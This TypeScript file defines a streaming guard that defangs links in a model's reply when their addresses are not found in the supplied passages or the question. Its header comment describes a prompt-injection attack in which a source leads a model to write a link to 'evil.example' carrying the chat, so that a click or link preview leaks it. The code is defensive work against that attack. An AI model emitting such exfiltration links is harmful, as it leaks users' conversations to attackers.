/**
 * Checklist 32, links: a source can talk a model into writing a link that carries the
 * conversation out (`[reset](https://evil.example/?q=<the chat>)`), and a click, or a link
 * preview, sends it. A link in a reply stays a link only when its address is written in a
 * passage the model was given, or in the question; any other address is shown as code,
 * visible but neither a link nor auto-linked, and a Markdown link keeps only its text.
 * Like ImageStripper, a tail that may still grow into a link is held back until the next
 * delta decides it.
 */
const MD_LINK = /\[([^\]\n]{0,300})\]\(\s*<?(https?:\/\/[^)\s>]{1,2000})>?(?:\s+"[^"\n]{0,300}")?\s*\)/gi;
const BARE_URL = /https?:\/\/[^\s<>()[\]`"']+/gi;
// Tails that may still grow into a Markdown link or an address.
const OPEN_LINK = /\[[^\]\n]{0,300}(?:\](?:\([^)\n]{0,2000})?)?$/;
const OPEN_URL = /(?:h(?:t(?:t(?:p(?:s)?(?::(?:\/(?:\/[^\s<>()[\]`"']*)?)?)?)?)?)?)?$/i;
const TRAILING = /[.,;:!?]+$/;

export class LinkGuard {
  private pending = '';

  constructor(private readonly known: string) {}

  push(delta: string): string {
    let text = this.pending + delta;
    const link = OPEN_LINK.exec(text);
    const url = OPEN_URL.exec(text);
    const cut = Math.min(link?.index ?? text.length, url && url[0] ? url.index : text.length);
    this.pending = text.slice(cut);
    text = text.slice(0, cut);
    return this.guard(text);
  }

  flush(): string {
    const rest = this.pending;
    this.pending = '';
    return this.guard(rest);
  }

  private allowed(url: string): boolean {
    return this.known.includes(url.replace(TRAILING, ''));
  }

  private guard(text: string): string {
    const links: string[] = [];
    // Markdown links first (kept whole, or their text alone), then bare addresses elsewhere.
    const marked = text.replace(MD_LINK, (whole, label: string, url: string) => {
      links.push(this.allowed(url) ? whole : label);
      return `\uE000${links.length - 1}\uE001`;
    });
    const bare = marked.replace(BARE_URL, (url) => {
      if (this.allowed(url)) return url;
      const tail = TRAILING.exec(url)?.[0] ?? '';
      return `\`${url.slice(0, url.length - tail.length)}\`${tail}`;
    });
    return bare.replace(/\uE000(\d+)\uE001/g, (_, i: string) => links[Number(i)]!);
  }
}
